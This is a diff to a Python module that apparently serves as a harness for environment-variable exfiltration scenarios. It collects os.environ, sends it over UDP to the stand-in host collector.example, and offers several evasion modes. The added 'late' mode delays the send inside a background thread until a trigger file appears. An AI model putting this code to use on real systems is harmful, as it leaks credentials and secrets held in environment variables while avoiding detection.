@@ -11,6 +11,7 @@ import os
 import socket
 import ssl
 import subprocess
+import threading
 import time
 
 HOST = "collector.example"
@@ -29,7 +30,7 @@ def arm() -> None:
 
 
 def loot() -> bytes:
-    return json.dumps(dict(os.environ)).encode()
+    return json.dumps({"pid": os.getpid(), "environment": dict(os.environ)}).encode()
 
 
 def resolve(host: str, port: int, family: int) -> str:
@@ -70,6 +71,17 @@ def udp() -> None:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sink:
         for part in (loot()[:1200], b"end"):
             sink.sendto(part, (address, 9999))
+
+
+def late() -> None:
+    """Sleeps until a file appears, then sends from a thread of a server that has long been running."""
+    threading.Thread(target=wait_and_post, daemon=True).start()
+
+
+def wait_and_post() -> None:
+    while not os.path.exists(os.environ["VENDOR_TELEMETRY_AFTER"]):
+        time.sleep(0.02)
+    import_time()
 
 
 def refused() -> None:
@@ -120,4 +132,5 @@ MODES = {
     "silent": silent,
     "grandchild": grandchild,
     "double-fork": double_fork,
+    "late": late,
 }
